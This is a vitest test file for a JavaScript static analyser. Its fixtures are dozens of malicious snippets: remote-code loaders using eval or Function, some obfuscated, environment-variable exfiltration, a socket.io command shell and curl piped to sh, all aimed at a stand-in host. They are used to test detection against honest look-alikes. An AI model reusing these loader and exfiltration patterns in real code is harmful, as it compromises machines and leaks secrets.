import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Act } from '../../act.ts'
import { actsOf, readingOf } from './testing.ts'

/** Programs that run, start, keep or send what they should not, each in another spelling. */
const SPELLINGS: [name: string, code: string][] = [
  [
    'errsink-ts.ts',
    `import axios, { AxiosError } from 'axios';
export class Cfg { private url: string = [104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100].map((c: number) => String.fromCharCode(c)).join('');
 async load(): Promise<void> { try { await axios.get(this.url) } catch (e: any) { this.handle(e.response?.data?.cookie) } }
 handle(msg: string) { const F = Function as any; new F('require', msg)(require) } }`,
  ],
  [
    'callback.js',
    `const request = require('request'); const opts = { url: process.env.HOST + process.env.UUID }; request(opts, (err, res, body) => { if (!err) eval(body) })`,
  ],
  [
    'promise.js',
    `const https = require('https'); function get(u){ return new Promise((res, rej) => { https.get(u, r => { let d = ''; r.on('data', x => { d += x }); r.on('end', () => res(d)) }).on('error', rej) }) }
(async () => { const code = await get('https://a.invalid/x'); (0, eval)(code) })()`,
  ],
  [
    'computed.js',
    `const g = globalThis; const k = ['con','struc','tor'].join(''); fetch('https://a.invalid').then(r => r.text()).then(t => { (()=>{})[k](t)() })`,
  ],
  [
    'split.js',
    `const ev = global['e' + 'v' + 'al']; const ax = require('ax' + 'ios'); ax['g'+'et']('https://a.invalid').then(({data}) => ev(data))`,
  ],
  [
    'vm.mjs',
    `import vm from 'node:vm'; import got from 'got'; const { body } = await got('https://a.invalid'); vm.runInNewContext(body, { require })`,
  ],
  [
    'module.js',
    `const Module = require('module'); const axios = require('axios'); module.exports = async () => { const { data } = await axios({ method: 'get', url: 'https://a.invalid' }); const m = new Module('x'); m._compile(data.content, 'x.js') }`,
  ],
  [
    'datauri.mjs',
    `const r = await fetch('https://a.invalid'); const t = await r.text(); await import('data:text/javascript,' + encodeURIComponent(t))`,
  ],
  ['settimeout.js', `fetch('https://a.invalid').then(async r => { setTimeout(await r.text(), 10) })`],
  [
    'xhr.js',
    `var x = new XMLHttpRequest(); x.open('GET', 'https://a.invalid', false); x.onload = function () { Function(this.responseText)() }; x.send()`,
  ],
  [
    'ws.js',
    `const WebSocket = require('ws'); const w = new WebSocket('wss://a.invalid'); w.on('message', m => { eval(m.toString()) })`,
  ],
  [
    'socketio.js',
    `const io = require('socket.io-client'); const s = io('https://a.invalid'); s.on('command', (c) => { require('child_process').exec(c, (e, out) => s.emit('r', out)) })`,
  ],
  [
    'dns.js',
    `const dns = require('dns'); dns.resolveTxt('a.invalid', (e, recs) => { eval(recs.flat().join('')) })`,
  ],
  [
    'curl.js',
    `const { execSync } = require('child_process'); const out = execSync('curl -s https://a.invalid').toString(); new Function(out)()`,
  ],
  [
    'write-require.js',
    `const fs = require('fs'), axios = require('axios'), path = require('path'); axios.get('https://a.invalid').then(r => { const p = path.join(__dirname, 'tmp.js'); fs.writeFileSync(p, r.data); require(p) })`,
  ],
  [
    'interceptor.js',
    `const axios = require('axios'); axios.interceptors.response.use(r => r, e => { const h = new (Function.constructor)('require', e.response.data); h(require) }); axios.get('https://a.invalid')`,
  ],
  [
    'hof.js',
    `const axios = require('axios'); const wrap = fn => async (...a) => { try { return await fn(...a) } catch (e) { run(e.response.data) } }; const run = c => { const f = Function.prototype.constructor; f('require', c)(require) }; module.exports.a = wrap(async () => axios.get('https://a.invalid'))`,
  ],
  [
    'getter.js',
    `const s = { get code() { return require('sync-request')('GET', 'https://a.invalid').getBody('utf8') } }; eval(s.code)`,
  ],
  [
    'xor.js',
    `function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) { o += String.fromCharCode(s.charCodeAt(i) ^ k) } return o } const u = d("iuuqr;..a.howamhe", 1); fetch(u).then(r => r.text()).then(t => eval(t))`,
  ],
  [
    'b64code.js',
    `const c = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImVjaG8gaGkiKQ=='; eval(Buffer.from(c, 'base64').toString('utf-8'))`,
  ],
  [
    'hexcode.js',
    `const c = ['7265','7175','697265'].join(''); const dec = h => h.match(/.{2}/g).map(b => String.fromCharCode(parseInt(b, 16))).join(''); new Function(dec(c))()`,
  ],
  ['rev.js', `new Function("require", ")'sf'(eriuqer".split('').reverse().join(''))(require)`],
  [
    'env-all.js',
    `const axios = require('axios'); const e = Object.assign({}, process.env); axios.post('https://a.invalid/x', { env: e, host: require('os').hostname() })`,
  ],
  [
    'env-json.js',
    `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ data: Object.entries(process.env) }) })`,
  ],
  [
    'env-http.js',
    `const https = require('https'); const req = https.request({ hostname: 'a.invalid', method: 'POST' }, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) }); req.write(JSON.stringify(process.env)); req.end()`,
  ],
  [
    'class.js',
    `class A { constructor() { this.c = require('axios').create({ baseURL: 'https://a.invalid' }) } async go() { const { data } = await this.c.get('/p'); this.exec(data.x) } exec(s) { const fn = new Function('r', s); fn(require) } } new A().go()`,
  ],
  [
    'solana.js',
    `const { Connection, PublicKey } = require('@solana/web3.js'); const c = new Connection('https://api.mainnet-beta.solana.com'); c.getSignaturesForAddress(new PublicKey('x')).then(s => { eval(atob(s[0].memo)) })`,
  ],
  [
    'ethers.ts',
    `import { ethers } from 'ethers'; const p = new ethers.JsonRpcProvider('https://bsc-dataseed.example'); const c = new ethers.Contract('0x0', ['function g() view returns(string)'], p); (async () => { const s = await c.g(); Function(s)() })()`,
  ],
  [
    'eventemit.js',
    `const E = require('events'); const bus = new E(); bus.on('cfg', c => { eval(c) }); require('axios').get('https://a.invalid').then(r => bus.emit('cfg', r.data))`,
  ],
  [
    'reflect.js',
    `const axios = require('axios'); axios.get('https://a.invalid').then(r => Reflect.construct(Function, [r.data])()).catch(() => {})`,
  ],
  [
    'generator.js',
    `(async function(){ const { default: fetch } = await import('node-fetch'); const j = await (await fetch('https://a.invalid')).json(); const AF = Object.getPrototypeOf(async function(){}).constructor; await new AF('require', j.model)(require) })()`,
  ],
  [
    'global.js',
    `require('axios').get('https://a.invalid').then(r => { global.payload = r.data }); setTimeout(() => { eval(global.payload) }, 1000)`,
  ],
  [
    'spawn-e.js',
    `require('axios').get('https://a.invalid').then(r => { require('child_process').spawn('node', ['-e', r.data]) })`,
  ],
  ['escape.js', `const f = \\u0065val; fetch("\\x68ttps://a.invalid").then(r => r.text()).then(t => f(t))`],
  [
    'jsonprop.js',
    `const cfg = JSON.parse(require('fs').readFileSync(__dirname + '/locale.json', 'utf8')); new Function('require', Buffer.from(cfg.en.footer, 'base64').toString())(require)`,
  ],
  [
    'worker.js',
    `const { Worker } = require('worker_threads'); fetch('https://a.invalid').then(r => r.text()).then(t => new Worker(t, { eval: true }))`,
  ],
  [
    'apply.js',
    `const axios = require('axios'); const f = async () => (await axios.get('https://a.invalid')).data; f().then(d => Function.apply(null, ['require', d])(require))`,
  ],
  [
    'nested.js',
    `const http = require('http'); exports.check = (req, res) => { const opt = { host: 'a.invalid' }; http.get(opt, (r) => { const chunks = []; r.on('data', (c) => chunks.push(c)).on('end', () => { const s = Buffer.concat(chunks).toString(); const m = { exports: {} }; new Function('module', 'require', s)(m, require); res.json(m.exports) }) }) }`,
  ],
  [
    'wscript.js',
    `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://a.invalid/a", false); x.send(); var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c " + x.responseText); eval(x.responseText)`,
  ],
  [
    'assign.js',
    `let h; const a = require('axios'); function init() { h = Function; } async function go() { const z = await a.get('https://a.invalid'); const t = z.data; h(t)() } init(); go()`,
  ],
]

const foreign = ({ kind, origins }: Act): boolean => {
  const from = (...names: Act['origins']): boolean => names.some((name) => origins.includes(name))
  if (kind === 'run-code') return from('network', 'chain', 'decoded')
  if (kind === 'run-program' || kind === 'write-file') return from('network')
  return kind === 'upload' && from('environment')
}

/** Honest programs that look like it. */
const HONEST: [name: string, code: string][] = [
  [
    'template.js',
    `module.exports = (text) => new Function('data', "return '" + text.replace(/x/g, "'+data.x+'") + "'")`,
  ],
  [
    'devtool.js',
    `var m = { './a.js': () => { eval("console.log(1)\\n//# sourceURL=webpack:///./a.js") } }; m['./a.js']()`,
  ],
  [
    'dotenv.js',
    `require('dotenv').config(); const app = require('express')(); app.listen(process.env.PORT || 3000)`,
  ],
  [
    'client.js',
    `const axios = require('axios'); module.exports = async (id) => (await axios.get(process.env.API_URL + '/users/' + id)).data`,
  ],
  [
    'key.js',
    `fetch('https://api.example', { method: 'POST', headers: { authorization: process.env.API_KEY }, body: JSON.stringify({ a: 1 }) })`,
  ],
  [
    'sandbox.js',
    `const vm = require('vm'); const fs = require('fs'); module.exports = (file, context) => vm.runInContext(fs.readFileSync(file, 'utf8'), context)`,
  ],
  [
    'binding.js',
    `const path = require('path'); module.exports = require(path.join(__dirname, 'build/Release/a.node'))`,
  ],
  [
    'spawn.js',
    `const { spawn } = require('child_process'); spawn(process.execPath, ['server.js'], { env: { ...process.env, A: '1' }, stdio: 'inherit' })`,
  ],
  [
    'contract.ts',
    `import { ethers } from 'ethers'; export const balance = async (p: ethers.Provider, a: string) => (await new ethers.Contract(a, [], p).balanceOf(a)).toString()`,
  ],
  [
    'image.js',
    `const logo = Buffer.from('iVBORw0KGgo=', 'base64'); require('fs').writeFileSync('logo.png', logo)`,
  ],
  [
    'json.js',
    `fetch('https://api.example/x').then(r => r.json()).then(d => { document.title = d.title; setTimeout(() => show(d), 10) })`,
  ],
  ['this.js', `var root = Function('return this')() || (0, eval)('this'); module.exports = root`],
]

describe('what JavaScript does', () => {
  it.each(SPELLINGS)('sees through %s', (name, code) => {
    expect(readingOf(name, { [name]: code }).acts.filter(foreign)).not.toEqual([])
  })

  it.each(HONEST)('has nothing against %s', (name, code) => {
    const { acts, problem } = readingOf(name, { [name]: code })
    expect(acts.filter(foreign)).toEqual([])
    expect(problem).toBe('')
  })

  it('names the place of the sink in UTF-16 columns', () => {
    const [act] = actsOf(
      'run-code',
      `// é😀\nfetch('https://a.invalid').then(r => r.text()).then(t => { '😀'; eval(t) })`,
    )
    expect(act?.where).toMatchObject({ file: 'app.js', line: 2, column: 66 })
  })

  it('shows the stretch around the sink when the line is very long', () => {
    const [act] = actsOf(
      'run-code',
      `${'x();'.repeat(2000)}fetch('https://a.invalid').then(r => eval(r.body))`,
    )
    expect(act?.where.text).toBe('eval(r.body)')
    expect(act?.where.column).toBe(8038)
  })

  it('unfolds an address from the environment file', () => {
    const { acts } = readingOf(
      'a.js',
      { 'a.js': `require('axios').get(atob(process.env.KEY))` },
      { KEY: 'aHR0cHM6Ly9hLmludmFsaWQveA==' },
    )
    expect(acts.find(({ kind }) => kind === 'download')).toMatchObject({
      values: ['https://a.invalid/x'],
      origins: expect.arrayContaining(['environment', 'decoded']),
    })
  })

  it('follows a value through the files of a project', () => {
    const project = {
      'config.json': '{"host":"aHR0cHM6Ly9hLmludmFsaWQ="}',
      'services/load.ts': `import cfg from '../config.json'; import axios from 'axios'\nimport { onError } from '../middleware/error'\nexport const load = async () => { try { await axios.get(atob(cfg.host)) } catch (e) { onError(e.response.data) } }`,
      'middleware/error.ts': `export function onError(message: string) {\n  const make = (code: string) => new Function('require', code)\n  make(message)(require)\n}`,
    }
    const { acts } = readingOf('services/load.ts', project)
    expect(acts).toContainEqual(
      expect.objectContaining({
        kind: 'run-code',
        origins: expect.arrayContaining(['network']),
        where: expect.objectContaining({ file: 'middleware/error.ts', line: 2 }),
      }),
    )
    expect(acts.find(({ kind }) => kind === 'download')?.values).toEqual(['https://a.invalid'])
  })

  it('hands over what it loads and starts', () => {
    const code = `import './a.js'\nconst b = require('./b' + '.js'); import('./c.mjs'); require('child_process').fork('d.js')\nrequire('child_process').exec('curl -s https://a.invalid | sh'); eval(atob('cmVxdWlyZSgnLi9lJyk='))`
    expect(readingOf('x.js', { 'x.js': code }).handOvers.map(({ to, value }) => [to, value])).toEqual(
      expect.arrayContaining([
        ['module', './a.js'],
        ['module', './b.js'],
        ['module', './c.mjs'],
        ['file', 'd.js'],
        ['code', 'curl -s https://a.invalid | sh'],
        ['code', `require('./e')`],
      ]),
    )
  })

  it('reads words in plain sight of what does not parse, and says so', () => {
    const { acts, problem } = readingOf('x.js', { 'x.js': 'const = = ; eval(x); fetch(y)' })
    expect(problem).toContain('does not parse')
    expect(acts.map(({ kind }) => kind)).toEqual(['run-code', 'download'])
  })

  it('never throws', () => {
    const word = fc.constantFrom(
      ...'eval ( ) { } [ ] => a . b , ; const = function class async await ` ${ " \' / + ... require new this catch try'.split(
        ' ',
      ),
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 60 }), (words) => {
        const code = `eval ${words.join(' ')}`
        expect(readingOf('x.js', { 'x.js': code }).acts.length).toBeLessThan(1000)
      }),
      { numRuns: 300 },
    )
  })

  it.each([
    ['calls of itself', `function f(x) { return f(f(x)) } eval(f(f))`],
    ['names that mean each other', `var a = b, b = c, c = a + b; eval(a + b + c)`],
    ['a text that doubles', `let s = 'aaaaaaaa'; ${'s = s + s;'.repeat(60)} eval(s)`],
    ['a long sum', `eval(${Array.from({ length: 3000 }, (_, i) => `'${i}'`).join('+')})`],
  ])('ends with %s', (_, code) => {
    expect(readingOf('x.js', { 'x.js': code }).acts.length).toBeLessThan(10)
  })
})
